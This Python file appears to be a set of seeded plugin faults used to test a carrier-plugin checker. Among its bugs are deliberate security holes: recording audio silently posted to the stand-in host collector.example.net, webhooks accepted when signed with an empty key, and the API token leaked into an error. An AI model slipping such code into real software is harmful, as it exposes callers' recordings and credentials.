"""Mistakes in plugins for carriers that speak TwiML: what an author writes besides the file of `hub new-plugin`."""

from __future__ import annotations

from textwrap import indent

from mistaken_plugins import Mistake, mistake

INIT = "__init__.py"
END = '        signature_header="x-tame-carrier-signature",\n    )\n'
"""The end of the class."""
USES = """from dataclasses import replace
from datetime import timedelta
from hub.api import BadPayload, BadSignature, Erasure, OutcomeUnknown, Receipt, hookimpl
from hub.api.carriers import RecordingAudio
from hub.api.twiml import form_fields, is_signed, signed_text"""
FETCH = "@hookimpl\ndef fetch_recording(self, recording_id, url):\n"
EXPORT = "@hookimpl\ndef export_person(self, person):\n    found = super().export_person(person)\n"
CREATE = "def _created(self, key, resource, form, id_form):\n"


def wrong(name: str, method: str, promise: str, says: str) -> Mistake:
    """The mistake of a method that the author adds."""
    added = END + "\n" + indent(method, "    ") + "\n"
    return mistake(name, (INIT, END, added), promise=promise, says=says, uses=USES)


TWIML: tuple[Mistake, ...] = (
    wrong(
        "a recording from any address",
        FETCH + "    content_type, data = self.rest.audio(url)\n"
        "    return RecordingAudio(content_type=content_type, data=data)",
        promise="A recording comes from the carrier only",
        says="it tried to call , which its manifest does not declare",
    ),
    wrong(
        "a recording from any address, and the refusal is swallowed",
        FETCH + "    try:\n        self.services.http().get(url)\n    except Exception:\n        pass\n"
        "    return super().fetch_recording(recording_id, url)",
        promise="A recording comes from the carrier only",
        says="it tried to call , which its manifest does not declare",
    ),
    wrong(
        "a recording goes to another host too",
        FETCH + "    found = super().fetch_recording(recording_id, url)\n"
        "    try:\n        self.services.http().post('https://collector.example.net/', content=found.data)\n"
        "    except Exception:\n        pass\n    return found",
        promise="A recording is what was spoken",
        says="it tried to call collector.example.net, which its manifest does not declare",
    ),
    wrong(
        "two calls after a lost reply",
        CREATE + "    try:\n        return super()._created(key, resource, form, id_form)\n"
        "    except OutcomeUnknown:\n        return super()._created(key, resource, form, id_form)",
        promise="Two phones ring once whatever becomes of the reply",
        says="times the call; raise OutcomeUnknown and leave it to the hub",
    ),
    wrong(
        "a call that may be placed twice",
        CREATE + '    made = self.rest.post(f"{self.rest.account}/{resource}.json", form)\n'
        '    return Receipt(key=key, status="accepted", reference=made["sid"])',
        promise="A call whose reply never comes is never placed twice",
        says="a server error: raise OutcomeUnknown, or the call may be placed twice",
    ),
    wrong(
        "the phones are swapped",
        "@hookimpl\ndef place_call(self, call):\n"
        "    return super().place_call(replace(call, user_number=call.person_number, person_number=call.user_number))",
        promise="A call is placed once with the tracking number as its caller id",
        says="assert",
    ),
    wrong(
        "the caller id is the user's own number",
        CREATE + '    return super()._created(key, resource, {**form, "From": form["To"]}, id_form)',
        promise="A call is placed once with the tracking number as its caller id",
        says="assert",
    ),
    wrong(
        "only the first page of calls",
        "def listed(self, resource, since):\n"
        '    page = self.rest.get(f"{self.rest.account}/{resource}.json", {"PageSize": "1000"})\n'
        "    return page[resource.lower()]",
        promise="Every page of the call list is read",
        says="calls are not listed: read every page",
    ),
    wrong(
        "recordings six hours early",
        "def _recording(self, item, call_id, number):\n    found = super()._recording(item, call_id, number)\n"
        "    return replace(found, at=found.at - timedelta(hours=6))",
        promise="Each event has the time at which it happened (UTC)",
        says="is listed with recorded at",
    ),
    wrong(
        "a signature of another token is good",
        "def check_signature(self, request):\n    try:\n        return super().check_signature(request)\n"
        "    except BadSignature:\n        try:\n            fields = form_fields(request.body)\n"
        "        except BadPayload as error:\n            raise BadSignature(str(error)) from error\n"
        '        if is_signed(request.url, fields, request.headers.get(self.api.signature_header, ""), [""]):\n'
        "            return signed_text(request.url, fields)\n        raise",
        promise="A signature with another key is refused",
        says="a webhook is taken that is signed with an empty key",
    ),
    wrong(
        "an odd body breaks the check",
        "def check_signature(self, request):\n    request.body.decode()\n    return super().check_signature(request)",
        promise="Nonsense from strangers is refused",
        says="verify_webhook raised UnicodeDecodeError",
    ),
    wrong(
        "the token in a receipt",
        CREATE + "    try:\n        return super()._created(key, resource, form, id_form)\n"
        "    except OutcomeUnknown as error:\n"
        '        raise OutcomeUnknown(f"{error} {self.settings.token.get_secret_value()}") from error',
        promise="A text is never told of whatever the carrier does",
        says="send_text tells",
    ),
    wrong(
        "a page of HTML is audio",
        FETCH + '    answer = self.rest.send("GET", f"{self.rest.account}/Recordings/{recording_id}.wav")\n'
        '    return RecordingAudio(content_type="audio/x-wav", data=answer.content)',
        promise="An answer that is garbage is tried again",
        says="fetch_recording: an unreadable reply must become RetryLater, not a result",
    ),
    wrong(
        "the pictures of a text are lost",
        "@hookimpl\ndef send_text(self, text):\n    return super().send_text(replace(text, media_urls=()))",
        promise="The pictures of a text go out with it",
        says="the carrier does not know the addresses",
    ),
    wrong(
        "a call is erased before its dialed legs",
        EXPORT + "    calls = [each for each in found if each.record_type == 'call']\n"
        "    return [each for each in found if each.record_type != 'call'] + calls[::-1]",
        promise="An erasure whose reply is lost is finished by the next try",
        says="erase the dialed legs before their call",
    ),
    wrong(
        "dialed legs are never erased",
        EXPORT + "    return [each for each in found if each.fields.get('direction') != 'outbound-dial']",
        promise="A person is erased at the company that was asked",
        says="records are still there: erase the dialed legs before their call",
    ),
    wrong(
        "the pictures of a text are never erased",
        "def pictures(self, text_id):\n    return []",
        promise="A person is erased at the company that was asked",
        says="records are still there: erase the dialed legs before their call and the pictures before their text",
    ),
    wrong(
        "a text is erased before its pictures",
        "@hookimpl\ndef erase_person(self, person):\n    held = self.export_person(person)\n"
        "    for each in held:\n        pictures = self.pictures(each.record_id) if each.record_type == 'text' else []\n"
        "        path = {'call': 'Calls', 'recording': 'Recordings', 'text': 'Messages'}[each.record_type]\n"
        '        for one in (f"{self.rest.account}/{path}/{each.record_id}.json", *pictures):\n'
        "            self.rest.delete(one)\n"
        "    return Erasure(status='erased' if held else 'nothing_held', records=len(held))",
        promise="An erasure whose reply is lost is finished by the next try",
        says="the pictures before their text",
    ),
    mistake(
        "a stand-in that breaks",
        (
            INIT,
            END,
            END + "\n\nclass Sandbox(TwimlApiStandIn):\n    carrier = TameCarrier\n\n"
            "    def paths(self):\n        return [('Calls.json', lambda request, form: self.nothing, ['GET'])]\n",
        ),
        promise="The call list agrees with the webhooks",
        says="your stand-in raised AttributeError at mistaken_",
        uses="from hub.api.twiml import TwimlApiStandIn",
    ),
)
